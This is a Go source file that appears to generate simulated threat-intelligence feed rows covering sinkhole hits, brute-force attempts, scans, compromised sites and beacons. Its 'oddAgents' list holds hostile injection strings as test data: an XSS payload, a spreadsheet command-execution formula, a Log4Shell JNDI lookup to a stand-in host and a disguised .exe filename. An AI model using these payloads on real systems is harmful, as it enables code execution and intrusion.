package sim

import (
	"strconv"
	"strings"
)

// What reports say beside the facts. Much of it is wrong on purpose at times:
// what a report claims of AS, place and sector must enter no figure.
var (
	agents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Mobile Safari/537.36",
		"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
		"python-requests/2.32.3", "curl/8.5.0", "",
	}
	// oddAgents are what hosts that somebody else controls may send.
	oddAgents = []string{
		`"><svg onload=alert(1)>`, "two\nlines, and a \"quote\"", `=cmd|' /C calc'!A0`, "caf\u00e9 \u202egpj.exe", "${jndi:ldap://x.example/a}",
	}
	paths      = []string{"wp-content/plugins/cache", "wp-includes/css", "images/2026", "administrator/tmp", "media/js", "cgi-bin", "uploads/doc"}
	telnetText = []string{"|MikroTik v6.49|Login:", "login: ", "BCM96318 Broadband Router|Login: ", "|(none) login:", "Welcome to ViewStation"}
	webServers = []string{"Apache/2.4.41 (Unix)", "nginx/1.18.0", "GoAhead-Webs", "Boa/0.94.14rc21", "lighttpd/1.4.54"}
	users      = []string{"root", "admin", "ubuntu", "test", "oracle", "support", "pi"}
	// upper gives place names as reports write them.
	upper = func() []string {
		u := make([]string, len(owners))
		for i := range owners {
			u[i] = strings.ToUpper(owners[i].region)
		}
		return u
	}()
)

const longSector = "Communications, Service Provider, and Hosting Service"

// claim is what the feed says of an address.
type claim struct {
	asn          int
	cc           string
	region, city string
	host         string
	naics        int
	sector       string
}

func (m *maker) claim(n *network, a address, x uint64) claim {
	if n == nil {
		return claim{}
	}
	c := claim{asn: int(n.asn), cc: m.w.geo.countries[n.cc], naics: 517311, sector: longSector}
	if n.cc == 0 {
		c.region, c.city = "CALDER", "CALDER"
		if n.org >= 0 {
			c.region, c.city = upper[n.org], "NEW "+upper[n.org]
			switch owners[n.org].sector {
			case "isp", "telecom", "hosting":
				if x&3 == 0 && !a.is6() {
					c.host = "host-" + strconv.FormatUint(a.lo&0xffff, 10) + "." + owners[n.org].id + ".example"
				}
			case "government":
				c.naics, c.sector = 921190, "Government"
			case "education":
				c.naics, c.sector = 611310, "Education"
			case "health":
				c.naics, c.sector = 622110, "Health Care"
			default:
				c.naics, c.sector = 0, ""
			}
		}
	}
	switch x >> 8 % 100 {
	case 0:
		c.asn, c.cc = 65000, "ZZ"
	case 1:
		c.asn, c.region, c.city = 0, "", ""
	}
	if m.revised {
		c.region, c.city, c.host, c.naics, c.sector = c.city, c.region, "", 0, ""
	}
	return c
}

func (m *maker) fillSource(s *sheet, n *network, a address, port int, x uint64) {
	c := m.claim(n, a, x)
	s.addr(colSrcIP, a)
	s.num(colSrcPort, port)
	s.num(colSrcASN, c.asn)
	s.str(colSrcGeo, c.cc)
	s.str(colSrcRegion, c.region)
	s.str(colSrcCity, c.city)
	s.str(colSrcHostname, c.host)
	s.num(colSrcNAICS, c.naics)
	s.str(colSrcSector, c.sector)
	if n != nil && x>>16%50 == 0 {
		s.str(colDeviceVendor, "Acme")
		s.str(colDeviceType, "router")
		s.str(colDeviceModel, "AX-3000")
		s.str(colDeviceFirmware, "3.0.1")
	}
}

func (m *maker) fillDestination(s *sheet, n *network, a address, port int, x uint64) {
	c := m.claim(n, a, x)
	s.addr(colDstIP, a)
	s.num(colDstPort, port)
	s.num(colDstASN, c.asn)
	s.str(colDstGeo, c.cc)
	s.str(colDstRegion, c.region)
	s.str(colDstCity, c.city)
	s.str(colDstHostname, c.host)
	s.num(colDstNAICS, c.naics)
	s.str(colDstSector, c.sector)
}

// familyName is the name as the feed of the row writes it.
func (m *maker) familyName(name int, north bool) string {
	if name == nameFamily+copperbot && m.c.cfg.Fault == RenameFamily {
		return renamedTo
	}
	if north && name >= nameFamily && name < nameFamily+familyCount {
		return families[name-nameFamily].spelled
	}
	return names[name]
}

func (m *maker) fillSinkhole(s *sheet, r *row) {
	f := &families[r.name-nameFamily]
	north := r.peer.lo&0xff00 == repNorth<<8 && !r.a.is6()
	name := m.familyName(r.name, north)
	m.fillSource(s, r.net, r.a, r.port, r.x)
	m.fillDestination(s, r.peerNet, r.peer, r.peerPort, 2<<8)
	s.str(colProtocol, "tcp")
	s.str(colInfection, name)
	s.str(colFamily, name)
	s.str(colTag, f.tag)
	if f.bits&seesHTTP != 0 {
		s.str(colApplication, "http")
	}
	s.str(colHTTPURL, "GET /"+strconv.FormatUint(r.x>>40, 36)+" HTTP/1.1")
	s.str(colHTTPHost, f.domain)
	if r.x>>24%400 == 0 {
		s.str(colHTTPAgent, oddAgents[r.x>>33%uint64(len(oddAgents))])
	} else {
		s.str(colHTTPAgent, agents[r.x>>33%uint64(len(agents))])
	}
}

func (m *maker) fillBrute(s *sheet, r *row) {
	m.fillSource(s, r.net, r.a, r.port, r.x)
	m.fillDestination(s, r.peerNet, r.peer, r.peerPort, r.x>>20)
	s.str(colProtocol, "tcp")
	s.str(colInfection, m.familyName(r.name, false))
	s.str(colPublicSource, "CAPRICA-EU")
	service := "ssh"
	if r.name == nameTelnet {
		service = "telnet"
	} else {
		s.str(colClientVersion, "b'SSH-2.0-Go'")
	}
	s.str(colApplication, service)
	s.str(colService, service)
	s.begin(colStartTime)
	s.text = append(s.text, '"')
	s.text = m.appendTime(s.text, r.t-m.shift, 'T')
	s.text = append(s.text, `.250000Z"`...)
	s.end(colStartTime)
	s.str(colUsername, users[r.x>>12%uint64(len(users))])
	s.str(colPassword, users[r.x>>30%uint64(len(users))]+"123")
}

func (m *maker) fillTarget(s *sheet, r *row) {
	m.fillDestination(s, r.net, r.a, r.port, r.x)
	m.fillSource(s, r.peerNet, r.peer, r.peerPort, r.x>>20)
	s.str(colProtocol, "udp")
	s.str(colInfection, m.familyName(r.name, false))
	s.str(colTag, "mirai")
	s.str(colApplication, "mirai")
	s.begin(colDstNetwork)
	s.text = append(s.text, '"')
	s.text = r.a.append(s.text)
	s.text = append(s.text, `/32"`...)
	s.end(colDstNetwork)
	s.num(colDstNetmask, 32)
	s.str(colAttack, "atk"+strconv.FormatUint(r.x>>40%10, 10))
	s.num(colDuration, 30+int(r.x>>44%600))
	s.num(colPacketLength, 1440)
}

func (m *maker) fillAmp(s *sheet, r *row) {
	m.fillSource(s, r.net, r.a, 0, r.x)
	s.num(colDstPort, r.peerPort)
	s.str(colInfection, m.familyName(r.name, false))
	s.str(colPublicSource, "CISPA")
	s.begin(colEndTime)
	s.text = append(s.text, '"')
	s.text = m.appendTime(s.text, r.t-m.shift+int64(r.x>>50%900), ' ')
	s.text = append(s.text, '"')
	s.end(colEndTime)
	s.num(colCount, 100+int(r.x>>40%5000))
}

func (m *maker) fillWebScan(s *sheet, r *row) {
	m.fillSource(s, r.net, r.a, r.port, r.x)
	m.fillDestination(s, r.peerNet, r.peer, r.peerPort, r.x>>20)
	s.str(colProtocol, "tcp")
	s.str(colInfection, m.familyName(r.name, false))
	s.str(colPublicSource, "CAPRICA-EU")
	s.str(colHTTPURL, "/"+paths[r.x>>30%uint64(len(paths))]+"/"+strconv.FormatUint(r.x>>48, 36)+".php")
	s.str(colHTTPAgent, agents[r.x>>34%uint64(len(agents))])
	s.str(colRequestMethod, "GET")
	s.str(colURLScheme, "http")
}

// host is the name under which the page of a hacked site is found, and url its
// address; both are the same for each sighting of the page.
func (r *row) host() string {
	switch h := r.site.domain; {
	case h == "":
		return string(r.a.append(nil))
	case r.path%7 == 0:
		return "shop." + h
	case r.path%31 == 1:
		return "WWW." + strings.ToUpper(h)
	case r.path%3 != 0:
		return "www." + h
	default:
		return h
	}
}

func (r *row) url(host string) string {
	page := "/" + paths[r.path>>20%uint64(len(paths))] + "/" + strconv.FormatUint(r.path>>24, 36)
	if r.site.domain == "" {
		return "http://" + host + ":" + strconv.Itoa(r.port) + page
	}
	if r.path>>9&1 == 0 {
		return "http://" + host + page + ".php?id=" + strconv.FormatUint(r.path&255, 10)
	}
	return "https://" + host + page + "/"
}

func (m *maker) fillSite(s *sheet, r *row) (host string) {
	c := m.claim(r.net, r.a, r.x)
	host = r.host()
	s.addr(colIP, r.a)
	s.num(colPort, r.port)
	s.num(colASN, c.asn)
	s.str(colGeo, c.cc)
	s.str(colRegion, c.region)
	s.str(colCity, c.city)
	s.num(colNAICS, c.naics)
	s.str(colSector, c.sector)
	s.str(colURL, r.url(host))
	return host
}

func (m *maker) fillMalwareURL(s *sheet, r *row) {
	host := m.fillSite(s, r)
	s.str(colHost, host) // the older layout also has addresses here
	if r.site.domain != "" {
		s.str(colHostname, host)
	}
	s.str(colTag, "loader;exe")
	s.str(colApplication, "http")
	s.begin(colSHA256)
	s.text = append(s.text, '"')
	for i := range uint64(4) {
		s.text = appendHex(s.text, mix(r.path+i))
	}
	s.text = append(s.text, '"')
	s.end(colSHA256)
}

func (m *maker) fillCompromised(s *sheet, r *row) {
	host := m.fillSite(s, r)
	s.str(colProtocol, "tcp")
	s.str(colTag, "webshell")
	s.str(colApplication, "http")
	s.str(colHTTPHost, host)
	s.str(colCategory, "backdoor")
	s.str(colSystem, "wordpress")
	s.str(colServer, webServers[r.path>>11%uint64(len(webServers))])
	s.str(colFamily, m.familyName(r.name, false))
	s.str(colDetail, "injected script")
}

func (m *maker) fillScan(s *sheet, r *row) {
	c := m.claim(r.net, r.a, r.x)
	s.addr(colIP, r.a)
	s.num(colPort, r.port)
	s.str(colProtocol, "tcp")
	s.num(colASN, c.asn)
	s.str(colGeo, c.cc)
	s.str(colRegion, c.region)
	s.str(colCity, c.city)
	s.num(colNAICS, c.naics)
	s.str(colHostname, c.host)
	if c.host != "" {
		s.str(colHostnameSource, "ptr")
	}
	s.str(colSector, c.sector)
	k := mix(r.a.lo<<16 | uint64(r.port)) //nolint:gosec // a port
	switch r.port {
	case 53:
		s.str(colProtocol, "udp")
		s.str(colTag, "openresolver")
		s.str(colDNSVersion, "dnsmasq-2."+strconv.FormatUint(60+k%30, 10))
		s.str(colMinAmplification, "4.6190")
	case 23, 2323:
		s.str(colTag, "telnet")
		s.str(colBanner, telnetText[k%uint64(len(telnetText))])
	case 3389, 33890:
		s.str(colTag, "rdp")
		s.str(colRDPProtocol, "RDP")
		s.str(colSubjectCommonName, "PC-"+strconv.FormatUint(k>>40, 36))
	default:
		s.str(colTag, "cve-2026-0001;http")
		s.str(colHTTP, "HTTP/1.1")
		s.num(colHTTPCode, 200)
		s.str(colHTTPReason, "OK")
		s.str(colContentType, "text/html; charset=\"utf-8\"")
		s.str(colServer, webServers[k%uint64(len(webServers))])
	}
}

func (m *maker) fillBeacon(s *sheet, r *row) {
	c := m.claim(r.net, r.a, r.x)
	s.addr(colIP, r.a)
	s.num(colPort, r.port)
	s.str(colProtocol, "tcp")
	s.num(colASN, c.asn)
	s.str(colGeo, c.cc)
	s.str(colRegion, c.region)
	s.str(colCity, c.city)
	s.num(colNAICS, c.naics)
	s.str(colHostname, c.host)
	s.str(colSector, c.sector)
	s.str(colTag, "post-exploitation")
	s.str(colHTTP, "HTTP/1.1")
	s.num(colHTTPCode, 404)
	s.str(colBeaconType, "HTTPS")
	s.begin(colBeaconHost)
	s.text = append(s.text, '"')
	s.text = r.a.append(s.text)
	s.text = append(s.text, '"')
	s.end(colBeaconHost)
	s.num(colBeaconPort, r.port)
	s.num(colLicenseID, 1+int(mix(r.a.lo)%900000000))
}

func appendHex(b []byte, x uint64) []byte {
	for i := 60; i >= 0; i -= 4 {
		b = append(b, "0123456789abcdef"[x>>i&15])
	}
	return b
}
